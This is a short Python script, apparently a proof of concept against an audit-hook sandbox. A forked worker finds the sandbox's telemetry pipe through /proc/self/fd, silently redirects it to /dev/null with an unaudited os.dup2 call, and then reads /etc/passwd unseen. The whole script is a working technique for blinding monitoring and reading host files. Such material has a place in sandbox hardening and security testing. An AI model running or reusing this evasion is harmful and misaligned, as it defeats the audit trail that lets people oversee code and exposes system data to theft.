# multiprocessing is only low (PJ407); os.fork is documented as staying in the
# jail ("the child's own events ... are recorded"). The forked worker finds the
# prelude's telemetry pipe (a non-blocking, write-only, close-on-exec pipe it
# did not open), points it at /dev/null (os.dup2 is not audited), and reads
# a host file with its hook writing into nothing.
import fcntl
import multiprocessing as mp
import os


def blind_read(name, queue):
    sink = os.open(os.devnull, os.O_WRONLY)
    for entry in os.listdir("/proc/self/fd"):
        fd = int(entry)
        try:
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
            kind = os.readlink("/proc/self/fd/%d" % fd)
        except OSError:
            continue
        if (kind.startswith("pipe:") and flags & os.O_NONBLOCK
                and flags & os.O_ACCMODE == os.O_WRONLY
                and not os.get_inheritable(fd)):
            os.dup2(sink, fd, inheritable=False)
    path = "/etc/%s" % name
    with open(path) as fh:
        queue.put(fh.read())


if __name__ == "__main__":
    ctx = mp.get_context("fork")
    q = ctx.Queue()
    child = ctx.Process(target=blind_read, args=("passwd", q))
    child.start()
    print(q.get(timeout=5))
    child.join()
